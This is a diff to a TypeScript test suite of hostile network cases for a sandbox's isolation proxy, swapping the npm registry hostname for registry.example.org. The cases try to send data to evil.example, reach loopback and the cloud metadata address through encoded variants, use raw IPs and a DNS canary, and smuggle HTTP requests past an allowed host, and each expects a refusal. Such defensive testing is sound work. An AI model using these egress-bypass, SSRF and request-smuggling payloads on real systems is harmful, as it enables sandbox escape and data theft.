@@ -29,10 +29,10 @@ export const REACHING: readonly HostileCase[] = [
     name: "sends what it found to a server that isn't listed",
     files: () =>
       attack(`${TALK} await talk("evil", "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n");
-        await talk("plain", "POST http://evil.example/ HTTP/1.1\\r\\nHost: registry.npmjs.org\\r\\nContent-Length: 1\\r\\n\\r\\nx");
-        await talk("looks alike", "CONNECT registry.npmjs.org.evil.example:443 HTTP/1.1\\r\\n\\r\\n");
-        await talk("user", "CONNECT registry.npmjs.org:443@evil.example:443 HTTP/1.1\\r\\n\\r\\n");`),
-    isolation: ALLOWING("registry.npmjs.org", "*.npmjs.org"),
+        await talk("plain", "POST http://evil.example/ HTTP/1.1\\r\\nHost: registry.example.org\\r\\nContent-Length: 1\\r\\n\\r\\nx");
+        await talk("looks alike", "CONNECT registry.example.org.evil.example:443 HTTP/1.1\\r\\n\\r\\n");
+        await talk("user", "CONNECT registry.example.org:443@evil.example:443 HTTP/1.1\\r\\n\\r\\n");`),
+    isolation: ALLOWING("registry.example.org", "*.example.org"),
     how: PROXIED,
     says: /! refused: evil\.example:443, not in isolation\.hosts/,
     wrong: notReached,
@@ -43,7 +43,7 @@ export const REACHING: readonly HostileCase[] = [
       attack(`${TALK} for (const host of ["127.0.0.1", "localhost", "::1", "0.0.0.0"]) await straight(host, host, ${pagePort});
         for (const host of ["localhost", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "localhost."])
           await talk(host, "GET http://" + host + ":${pagePort}/ HTTP/1.1\\r\\nHost: " + host + ":${pagePort}\\r\\n\\r\\n");`),
-    isolation: ALLOWING("registry.npmjs.org"),
+    isolation: ALLOWING("registry.example.org"),
     how: "loopback is the sandbox's own, and the proxy knows no other names of it",
     says: /REFUSED 127\.0\.0\.1 ECONNREFUSED/,
     wrong: notReached,
@@ -64,7 +64,7 @@ export const REACHING: readonly HostileCase[] = [
       attack(`${TALK} await straight("metadata", "169.254.169.254", 80);
         for (const host of ["169.254.169.254", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "2852039166", "0xA9FEA9FE", "169.254.43518"])
           await talk(host, "GET http://" + host + "/latest/meta-data/ HTTP/1.1\\r\\nHost: " + host + "\\r\\n\\r\\n");`),
-    isolation: ALLOWING("registry.npmjs.org"),
+    isolation: ALLOWING("registry.example.org"),
     how: "no route, and no such address at the proxy",
     says: /REFUSED metadata (ENETUNREACH|EHOSTUNREACH)/,
     wrong: notReached,
@@ -73,9 +73,9 @@ export const REACHING: readonly HostileCase[] = [
     name: "goes to addresses instead of names",
     files: () =>
       attack(`${TALK} await straight("address", "1.1.1.1", 443); await straight("address 6", "2606:4700:4700::1111", 443);
-        for (const to of ["1.1.1.1:443", "[2606:4700:4700::1111]:443", "16843009:443"]) await talk(to, "CONNECT " + to + " HTTP/1.1\\r\\nHost: registry.npmjs.org\\r\\n\\r\\n");
+        for (const to of ["1.1.1.1:443", "[2606:4700:4700::1111]:443", "16843009:443"]) await talk(to, "CONNECT " + to + " HTTP/1.1\\r\\nHost: registry.example.org\\r\\n\\r\\n");
         const dns = (await import("node:dns")).promises; await dns.resolve4("canary.evil.example").then(() => console.log("REACHED dns"), (e) => console.log("REFUSED dns", e.code));`),
-    isolation: ALLOWING("registry.npmjs.org"),
+    isolation: ALLOWING("registry.example.org"),
     how: "no route, also to servers of names; addresses must be listed as such",
     says: /! refused: 1\.1\.1\.1:443, not in isolation\.hosts/,
     wrong: notReached,
@@ -84,7 +84,7 @@ export const REACHING: readonly HostileCase[] = [
     name: "smuggles a request to the host's server behind one that is listed",
     files: ({ pagePort }) =>
       attack(`${TALK} const inner = "GET http://127.0.0.1:${pagePort}/ HTTP/1.1\\r\\nHost: 127.0.0.1:${pagePort}\\r\\n\\r\\n";
-        const to = "http://registry.npmjs.org/", host = "Host: registry.npmjs.org\\r\\n";
+        const to = "http://registry.example.org/", host = "Host: registry.example.org\\r\\n";
         await talk("both lengths", "POST " + to + " HTTP/1.1\\r\\n" + host + "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner);
         await talk("two lengths", "POST " + to + " HTTP/1.1\\r\\n" + host + "Content-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\n" + inner);
         await talk("bare newlines", "GET " + to + " HTTP/1.1\\n" + host + "X: y\\n\\n" + inner);
